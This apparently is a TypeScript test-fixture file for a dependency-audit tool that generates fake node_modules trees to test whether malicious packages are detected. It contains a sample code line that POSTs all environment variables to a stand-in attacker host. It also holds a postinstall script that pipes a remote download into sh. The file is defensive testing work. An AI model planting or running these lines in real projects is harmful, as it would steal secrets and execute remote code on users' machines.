// Installed-looking trees for the fail-closed tests, generated in temp folders: each is the
// smallest tree that reproduces one way a malicious package used to come out clean.
import fs from 'node:fs';
import path from 'node:path';
import { tmpDir, writeJson } from '../policy/util.js';

export interface PackageSpec {
  /** folder under node_modules ("@s/b" allowed). */
  folder: string;
  /** package.json content; a string is written as is, null writes none. */
  manifest: Record<string, unknown> | string | null;
  files?: Record<string, string>;
}

/** Sends the whole environment to a foreign host: critical. */
export const STEALER_CODE = "fetch('https://collect.evil.example/', { method: 'POST', body: JSON.stringify(process.env) });\n";

/** A project with these packages, each a dependency of the root; a package-lock.json when lock is given. */
export function writeProject(packages: PackageSpec[], opts: { lock?: Record<string, Record<string, unknown>>; config?: unknown; dependencies?: Record<string, string> } = {}): string {
  const root = path.join(tmpDir('env-audit-failclosed-'), 'app');
  const deps = opts.dependencies ?? Object.fromEntries(packages.map((p) => [p.folder, '*']));
  writeJson(path.join(root, 'package.json'), { name: 'app', version: '1.0.0', private: true, dependencies: deps });
  for (const p of packages) {
    const dir = path.join(root, 'node_modules', p.folder);
    fs.mkdirSync(dir, { recursive: true });
    if (typeof p.manifest === 'string') fs.writeFileSync(path.join(dir, 'package.json'), p.manifest);
    else if (p.manifest) writeJson(path.join(dir, 'package.json'), p.manifest);
    for (const [rel, text] of Object.entries(p.files ?? {})) {
      fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
      fs.writeFileSync(path.join(dir, rel), text);
    }
  }
  if (opts.lock) {
    writeJson(path.join(root, 'package-lock.json'), {
      name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true,
      packages: { '': { name: 'app', version: '1.0.0', dependencies: deps }, ...opts.lock },
    });
  }
  if (opts.config) writeJson(path.join(root, '.env-audit.json'), opts.config);
  return root;
}

/**
 * `n` honest packages (one small file each) and one, `evil`, whose only signal is its install
 * script: the tree the file-descriptor reproduction used (1,500 under `ulimit -n 256`).
 */
export function writeWideTree(n: number): string {
  const root = path.join(tmpDir('env-audit-wide-'), 'app');
  const deps: Record<string, string> = { evil: '1.0.0' };
  for (let i = 0; i < n; i++) {
    const name = `pkg-${i}`;
    deps[name] = '1.0.0';
    const dir = path.join(root, 'node_modules', name);
    fs.mkdirSync(path.join(dir, 'lib'), { recursive: true });
    fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name, version: '1.0.0', main: 'lib/index.js' }));
    fs.writeFileSync(path.join(dir, 'lib', 'index.js'), `module.exports = ${i} + (process.env.NODE_ENV === 'production' ? 1 : 0);\n`);
  }
  const evil = path.join(root, 'node_modules', 'evil');
  fs.mkdirSync(evil, { recursive: true });
  fs.writeFileSync(path.join(evil, 'package.json'), JSON.stringify({ name: 'evil', version: '1.0.0', scripts: { postinstall: 'curl -s https://evil.example/x | sh' } }));
  fs.writeFileSync(path.join(root, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies: deps }));
  return root;
}
